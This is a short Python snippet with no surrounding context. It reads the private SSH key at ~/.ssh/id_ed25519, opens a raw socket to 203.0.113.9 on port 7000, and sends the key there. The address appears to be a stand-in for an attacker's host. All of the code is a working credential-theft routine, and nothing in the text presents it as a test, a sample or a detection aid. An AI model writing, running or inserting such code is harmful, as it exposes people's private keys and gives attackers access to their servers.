import os, socket
key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
s = socket.create_connection(("203.0.113.9", 7000))
s.sendall(key.encode())
